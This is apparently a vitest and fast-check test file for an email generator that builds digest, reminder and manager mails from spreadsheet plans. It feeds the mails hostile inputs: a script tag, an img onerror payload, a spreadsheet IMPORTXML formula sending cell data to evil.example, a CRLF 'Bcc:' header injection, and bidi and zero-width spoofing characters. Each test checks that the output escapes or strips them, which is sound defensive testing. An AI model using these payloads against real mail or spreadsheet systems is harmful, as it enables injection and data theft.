import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Summary } from '../../src/core/summary/summary'
import { cycleNote } from '../../src/email/letters/cycleNote'
import { digestMail } from '../../src/email/letters/digest'
import { managerMail } from '../../src/email/letters/manager'
import { requestMail } from '../../src/email/letters/request'
import { type Mail, MOST_BYTES } from '../../src/email/mail'
import type { PlanReport } from '../../src/email/occasion'
import {
  aFalling,
  aMiss,
  aMove,
  aNotCounted,
  anAttention,
  anObjective,
  anOpen,
  aQuote,
  aReport,
  day,
  lena,
  type Options,
  options,
  percent,
} from './buildSummary'
import { chineseOptions } from './buildSummaryZh'
import { piecesOf, visibleText, wordsOf } from './markup'

/** Every mail there is, of some plans. */
const letters: {
  name: string
  of: (plans: readonly PlanReport[], options: Options, name: string) => Mail
}[] = [
  { name: 'digest', of: digestMail },
  {
    name: 'manager',
    of: (plans, options, name) => managerMail(plans, [{ owner: { name }, requests: 3 }], options),
  },
  { name: 'request', of: (plans, options) => requestMail('request', plans, options) },
  { name: 'reminder', of: (plans, options) => requestMail('reminder', plans, options) },
  { name: 'note two weeks before the end', of: (plans, options) => cycleNote('ending', plans, options) },
  { name: 'note at the end', of: (plans, options) => cycleNote('ended', plans, options) },
]

const hostile = {
  script: '<script>alert(1)</script>',
  attribute: '"><img src=x onerror=alert(1)>',
  formula: '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  turned: 'inv\u202egpj\u2066.exe',
  hidden: 'pay\u200b\u2060ment',
  lines: 'Grow\r\n\r\nBcc: x@example.com\u2028now',
  long: '超长的目标'.repeat(10_000),
  halved: '😀'.repeat(100).slice(0, 139),
}

/** Every text a cell can reach the mail by. */
const filledWith = (text: string): Partial<Summary> => {
  const subject = { title: text, objective: text, owners: [{ name: text }, { mail: text }], row: 9 }
  return {
    attention: [anAttention({ ...subject, lastNote: text })],
    moved: [aMove({ ...subject, unit: { kind: 'number', text } })],
    objectives: [anObjective(subject)],
    open: [anOpen({ ...subject, owner: { name: text }, unit: { kind: 'number', text } })],
    falling: [aFalling({ ...subject, lastNote: text })],
    misses: [aMiss({ ...subject, unit: { kind: 'number', text } })],
    waiting: [{ owner: { name: text }, count: 1 }],
    wins: [aQuote({ ...subject, text, author: text })],
    blockers: [aQuote({ ...subject, text, author: text })],
    dates: [{ ...subject, due: day('2026-09-01') }],
    notCounted: [aNotCounted({ title: text, problem: { code: 'notANumber', field: 'current', text } })],
  }
}

const texts = Object.entries(hostile).map(([what, text]) => ({ what, text }))

describe.each(letters.flatMap((letter) => texts.map((it) => ({ ...letter, ...it }))))(
  'hostile text ($what) in the $name',
  ({ of, text }) => {
    const filled = (text: string) => {
      const given = options({ planTitle: text, fileTitle: text, senderName: text })
      // Of one plan the title stands in the subject, of two the name of the file.
      return [1, 2].map((count) => of(Array(count).fill(aReport(filledWith(text), given)), given, text))
    }
    const mails = filled(text)

    test('adds no element, no attribute and no line', () => {
      const shape = (html: string) => piecesOf(html).map((piece) => ('text' in piece ? 'text' : piece))
      filled('x').forEach((harmless, n) => {
        expect(shape(mails[n]?.html ?? '')).toEqual(shape(harmless.html))
        expect(mails[n]?.text.split('\n')).toHaveLength(harmless.text.split('\n').length)
      })
    })

    test('leaves no control, bidi or zero-width character in subject, preheader and body', () => {
      for (const { subject, preheader, html, text } of mails) {
        for (const part of [subject, preheader, html, text.replaceAll('\n', '')])
          expect(part).not.toMatch(
            /[\p{Cc}\p{Zl}\p{Zp}\p{Cs}\u200b\u200e\u200f\u2060\u202a-\u202e\u2066-\u2069]/u,
          )
        expect(subject.length).toBeLessThanOrEqual(78)
      }
    })

    test('leaves both bodies saying the same', () => {
      const spaceless = (words: string[]) => words.join('').replace(/^-/gm, '')
      for (const { html, text } of mails)
        expect(spaceless(wordsOf(visibleText(html)))).toBe(spaceless(wordsOf(text)))
    })
  },
)

const bytes = (text: string) => new TextEncoder().encode(text).length

/** A plan of so many key results in which everything is said of every one of them. */
function planOf(count: number, text: string): Partial<Summary> {
  const each = <T>(make: (row: number) => T): T[] =>
    Array.from({ length: count }, (_, index) => make(index + 4))
  const subject = (row: number) => ({
    title: `${row} ${text}`,
    objective: text,
    owners: [{ name: text }, lena],
    row,
  })
  return {
    keyResults: count,
    attention: each((row) => anAttention({ ...subject(row), lastNote: text })),
    moved: each((row) => aMove(subject(row))),
    objectives: each((row) => anObjective(subject(row))),
    open: each((row) => anOpen({ ...subject(row), owner: lena, unit: percent })),
    falling: each((row) => aFalling({ ...subject(row), lastNote: text })),
    misses: each((row) => aMiss(subject(row))),
    waiting: each((row) => ({ owner: { name: `${row} ${text}` }, count: 1, days: row })),
    wins: each((row) => aQuote({ ...subject(row), text })),
    blockers: each((row) => aQuote({ ...subject(row), text })),
    dates: each((row) => ({ ...subject(row), due: day('2026-09-01') })),
    notCounted: each((row) =>
      aNotCounted({ ...subject(row), problem: { code: 'missing', field: 'target' } }),
    ),
  }
}

const scripts = [
  {
    what: 'English',
    given: options(),
    text: 'Raise the share of riders who come back within thirty days',
  },
  { what: 'Chinese', given: chineseOptions(), text: '提高三十天内再次预约试骑的新客户所占的比例' },
  { what: 'four bytes a character', given: options(), text: '𠮷'.repeat(200) },
  { what: 'six bytes once escaped', given: options(), text: '"'.repeat(200) },
]

describe.each(letters)('the size of the $name', ({ of }) => {
  test.each(
    scripts.flatMap((script) => [
      { ...script, count: 1, plans: 1 },
      { ...script, count: 2_000, plans: 1 },
      { ...script, count: 500, plans: 10 },
    ]),
  )('$plans × $count key results in $what fit', ({ given, text, count, plans }) => {
    const report = aReport(planOf(count, text), { ...given, planTitle: text })
    expect(bytes(of(Array(plans).fill(report), given, text).html)).toBeLessThanOrEqual(MOST_BYTES)
  })
})

test.each(scripts)(
  'a long plan in $what says how much more there is, a short one does not',
  ({ given, text }) => {
    const mail = (count: number) => digestMail([aReport(planOf(count, text), given)], given).text
    expect(mail(2_000)).toContain(given.messages.mail.more(1_995))
    expect(mail(1)).not.toMatch(/more in the sheet|请在表格中查看/)
  },
)

const given: fc.Arbitrary<Partial<Options>> = fc.record({
  planTitle: fc.string({ unit: 'binary', maxLength: 300 }),
  senderName: fc.string({ unit: 'binary', maxLength: 300 }),
})
test('whatever the cells hold, the mail is well formed, and both bodies have the same links', () =>
  fc.assert(
    fc.property(
      fc.constantFrom(...letters),
      fc.string({ unit: 'binary', maxLength: 300 }),
      given,
      (letter, text, some) => {
        const mail = letter.of([aReport(filledWith(text), options(some))], options(some), text)
        const inHtml = piecesOf(mail.html).flatMap((piece) =>
          'tag' in piece && piece.tag === 'a'
            ? [/href="([^"]*)"/.exec(piece.attributes)?.[1]?.replaceAll('&amp;', '&')]
            : [],
        )
        const inText = mail.text.match(/^ *https:\/\/docs\.google\.com\S+$/gm)?.map((link) => link.trim())
        expect(inHtml).toEqual(inText)
      },
    ),
  ))
